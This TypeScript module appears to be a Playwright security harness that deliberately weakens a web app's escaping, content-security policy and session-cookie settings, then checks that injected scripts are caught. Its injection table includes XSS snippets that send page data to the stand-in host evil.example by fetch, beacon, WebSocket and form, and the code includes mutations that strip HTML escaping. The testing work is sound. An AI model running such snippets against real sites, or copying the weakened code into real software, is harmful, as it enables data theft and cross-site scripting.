import type { Browser, BrowserContext, Page } from 'playwright-core'
import { launchBrowser, openPage } from '../browser.ts'
import type { Attack, Hole, Tally } from './attack.ts'
import { furnish } from './furnish.ts'
import { forgottenFields, plantTexts } from './hostile.ts'
import type { PersonName } from './people.ts'
import type { Target } from './target.ts'

const app = 'apps/server/src/http/app.ts'
const files = 'apps/server/src/http/files.ts'

let launched: Promise<Browser> | undefined
const browserOf = (): Promise<Browser> => (launched ??= launchBrowser())

export async function closeBrowser(): Promise<void> {
  await (await launched)?.close()
  launched = undefined
}

/** A page in the browser of somebody, and what happened on it that must not. */
async function watched(
  target: Target,
  name: PersonName | null,
): Promise<{ page: Page; context: BrowserContext; take: () => Hole[] }> {
  const { page, problems } = await openPage(await browserOf())
  const context = page.context()
  const seen: Hole[] = []
  let read = 0
  page.on('dialog', (dialog) => {
    seen.push(`a dialog says ${dialog.message()}`)
    void dialog.dismiss()
  })
  await context.exposeFunction('canary', (n: number) => void seen.push(`text ${n} was run`))
  if (name !== null) {
    const cookies = (await target.signIn(name)).split('; ').map((one) => one.split(/=(.*)/s))
    await context.addCookies(cookies.map(([key = '', value = '']) => ({ name: key, value, url: target.url })))
  }
  const take = () => {
    const now = [...seen.splice(0), ...problems.slice(read)]
    read = problems.length
    return now
  }
  return { page, context, take }
}

const tenantPages = [
  '',
  '/read',
  '/systems',
  '/computers',
  '/platforms?all=true',
  '/parameters?check=bb.repo-private',
  '/accounts',
  '/duties?of=done',
  '/files',
  '/findings',
  '/findings?state=excepted',
  '/findings?state=closed',
  '/editions',
  '/duties',
  '/duties?of=open',
  '/duties?of=done',
  '/guidelines',
  '/ledger',
  '/catalogue',
  '/members',
  '/public',
  '/settings',
]

/** Waits until a page shows what it asked for, then looks for what the hostile texts would have made of it. */
async function foundOn(page: Page, address: string): Promise<Hole[]> {
  await page.goto(address, { waitUntil: 'networkidle' })
  const planted = await page.evaluate(() => {
    const grown =
      'script:not([src]), iframe, svg[onload], a[href^="javascript:" i], [onerror], [onload], [onfocus], img[src="x"]'
    return [...document.querySelectorAll(grown)].map((element) => element.outerHTML.slice(0, 80))
  })
  return planted.map((markup) => `became markup: ${markup}`)
}

/** How many texts a page shows that hold a hostile one, as texts. */
const textsOn = (page: Page): Promise<number> =>
  page.evaluate(() => document.documentElement.textContent.split('canary(').length - 1)

async function walk(target: Target, tally: Tally, who: PersonName | null, paths: readonly string[]): Promise<void> {
  const { page, context, take } = await watched(target, who)
  try {
    for (const path of paths) {
      const found = await foundOn(page, `${target.url}${path}`)
      const holes = [...found, ...take()]
      // Each text that is shown is a try of its own, and a page without any is one, too.
      const shown = holes.length > 0 ? 0 : Math.max(1, await textsOn(page))
      for (let n = 0; n < shown; n++) tally.add(null)
      for (const hole of holes) tally.add(`${path}: ${hole}`)
    }
  } finally {
    await context.close()
  }
}

/** Walks at once, each in a browser context of its own: while one waits until its page is still, another goes on. */
async function walkAtOnce(...walks: readonly Promise<void>[]): Promise<void> {
  // Each is over before the server is weakened or stopped.
  for (const ended of await Promise.allSettled(walks)) if (ended.status === 'rejected') throw ended.reason
}

/** Every second of a list, from the first or from the second on. */
const half = (paths: readonly string[], first: 0 | 1) => paths.filter((_, place) => place % 2 === first)

/** Weakened: the workplace writes texts as markup, as a careless component would. */
export const storedScript: Attack = {
  id: 'stored-xss',
  title: 'no text that somebody stored becomes anything but a text on a page of the workplace',
  weaken: [
    {
      file: files,
      from: 'return new Response(bytes, {',
      to: "return new Response(extension === '.js' ? bytes.toString().replaceAll('.textContent=', '.innerHTML=') : bytes, {",
    },
  ],
  goesOn: true,
  async run(target, tally) {
    for (const hole of forgottenFields(target)) tally.add(hole)
    const { documentIds, invitation } = await plantTexts(target)
    const pages = [...tenantPages, ...documentIds.map((id) => `/read?document=${id}`)].map((path) => `/t/alpha${path}`)
    const own = [...pages, '/account', '/tenants']
    await walkAtOnce(
      walk(target, tally, 'owner', half(own, 0)),
      walk(target, tally, 'owner', half(own, 1)),
      walk(target, tally, 'operator', ['/installation', '/tenants', '/account']),
      walk(target, tally, null, [`/invitation${invitation}`]),
    )
  },
}

/** Weakened: the press writes texts as they are. */
export const publishedScript: Attack = {
  id: 'published-xss',
  title: 'no text that somebody stored becomes anything but a text on a public page',
  weaken: [
    {
      file: 'packages/press/src/html.ts',
      from: "if (typeof insert === 'string') return escape(insert)",
      to: "if (typeof insert === 'string') return insert",
    },
  ],
  goesOn: true,
  async run(target, tally) {
    await plantTexts(target)
    await walk(target, tally, null, [
      '/trust/alpha',
      '/trust/alpha?language=de',
      '/trust/alpha/editions',
      '/trust/alpha/editions/1',
      '/trust/alpha/documents',
      '/trust/alpha?language=%3Cscript%3Ecanary(1)%3C/script%3E',
    ])
    for (const path of [
      '/trust/alpha/edition.json',
      '/trust/alpha/state.json',
      '/trust/alpha/about.jsonld',
      '/trust/alpha/editions.json',
      '/trust/alpha/edition.pdf',
      '/trust/alpha/edition-archive.pdf',
      '/trust/alpha/edition.md',
      '/trust/alpha/edition.schema.json',
      '/trust/alpha/bundle.zip',
      '/openapi.json',
    ]) {
      const { headers } = await target.send(path)
      const isRead =
        headers.get('x-content-type-options') === 'nosniff' &&
        !/html|svg|xml/.test(headers.get('content-type') ?? 'html')
      tally.add(isRead ? null : `${path} may be read as a page`)
    }
  },
}

/** Weakened: a page with a script of its own in it. */
export const policyViolations: Attack = {
  id: 'csp-violations',
  title: 'no page of art32 breaks its own policy, asks another host or writes an error',
  weaken: [
    {
      file: files,
      from: "page.replaceAll('__NONCE__', nonce)",
      to: "page.replaceAll('__NONCE__', nonce).replace('</body>', '<script>1</script></body>')",
    },
  ],
  goesOn: true,
  async run(target, tally) {
    await furnish(target)
    const pages = tenantPages.map((path) => `/t/alpha${path}`)
    await walk(target, tally, 'owner', [...pages, '/account', '/tenants'])
    await walk(target, tally, 'operator', ['/installation'])
    await walk(target, tally, null, [
      '/',
      '/sign-in',
      '/sign-in?next=//evil.example',
      '/setup#x',
      '/reset#x',
      '/address#x',
      '/nothing',
    ])
  },
}

/** What a script would try that got into a page all the same. */
const injections: Readonly<Record<string, string>> = {
  'a script': `const it = document.createElement('script'); it.textContent = 'canary(1)'; document.body.append(it)`,
  'a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="canary(2)">')`,
  'a link': `const it = document.createElement('a'); it.href = 'javascript:canary(3)'; document.body.append(it); it.click()`,
  'a data script': `const it = document.createElement('script'); it.src = 'data:text/javascript,canary(4)'; document.body.append(it)`,
  'a frame of its own': `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.canary(5)</script>"></iframe>')`,
  'a script from elsewhere': `const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it)`,
  'a picture elsewhere': `new Image().src = 'https://evil.example/?' + document.title`,
  'a request elsewhere': `void fetch('https://evil.example/', { method: 'POST', body: document.title }).catch(() => {})`,
  'a beacon': `navigator.sendBeacon('https://evil.example/', 'x')`,
  'a socket': `try { new WebSocket('wss://evil.example/') } catch {}`,
  'a style elsewhere': `document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="https://evil.example/x.css">')`,
  'a form elsewhere': `document.body.insertAdjacentHTML('beforeend', '<form id="f" method="post" action="https://evil.example/" target="_blank"></form>'); document.getElementById('f').submit()`,
  'another base': `document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">'); new Image().src = 'x.png'`,
}

/** Weakened: scripts within a page are allowed. */
export const policyHolds: Attack = {
  id: 'csp-holds',
  title: 'what got into a page all the same runs nothing and carries nothing away',
  weaken: [{ file: app, from: "script-src 'self';", to: "script-src 'self' 'unsafe-inline' data:;" }],
  async run(target, tally) {
    for (const path of ['/sign-in', '/nothing']) {
      const { page, context, take } = await watched(target, null)
      try {
        for (const [what, code] of Object.entries(injections)) {
          await page.goto(`${target.url}${path}`, { waitUntil: 'load' })
          take()
          await page.evaluate(code)
          await page.waitForTimeout(50)
          const [hole] = take().filter((one) => !one.startsWith('console:'))
          tally.add(hole === undefined ? null : `${what} on ${path}: ${hole}`)
        }
      } finally {
        await context.close()
      }
    }
    const { page, context } = await watched(target, null)
    await page.setContent(`<iframe src="${target.url}/sign-in"></iframe>`, { waitUntil: 'load' }).catch(() => undefined)
    const shown = await page.frames()[1]?.locator('#root').count()
    tally.add(shown ? 'a page of another site shows it in a frame' : null)
    await context.close()
  },
}

/** Weakened: a cookie that scripts read and other sites send. */
export const sessionCookie: Attack = {
  id: 'session-cookie',
  title: 'no script reads the session and no other site sends it',
  weaken: [
    {
      file: 'apps/server/src/account/account.ts',
      from: "{ httpOnly: true, sameSite: 'strict', path: '/', secure: isSecure }",
      to: "{ httpOnly: false, sameSite: 'lax', path: '/', secure: isSecure }",
    },
  ],
  async run(target, tally) {
    const { page, context } = await watched(target, null)
    await page.goto(`${target.url}/sign-in`)
    await page.getByRole('textbox').first().fill('owner@example.com')
    await page.locator('input[type=password]').fill('correct horse battery staple')
    await page.keyboard.press('Enter')
    await page.waitForURL('**/t/alpha')
    const cookies = await context.cookies()
    const readable = await page.evaluate(() => document.cookie)
    const stored = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))
    for (const { name, value, httpOnly, sameSite } of cookies) {
      tally.add(httpOnly && !readable.includes(name) ? null : `a script reads ${name}`)
      tally.add(sameSite === 'Strict' ? null : `${name} is sent from other sites`)
      tally.add(stored.includes(value) ? `${name} is kept where scripts read it` : null)
    }
    // The same machine under another name is another site.
    await page.goto(`${target.url.replace('localhost', '127.0.0.1')}/sign-in`)
    const [request] = await Promise.all([
      page.waitForRequest((one) => one.url().startsWith(`${target.url}/`)),
      page.evaluate((address) => {
        location.href = address
      }, `${target.url}/api/account/whoami`),
    ])
    const sent = await request.allHeaders()
    tally.add(sent['cookie'] === undefined ? null : 'a link on another site carries the session along')
    await context.close()
  },
}
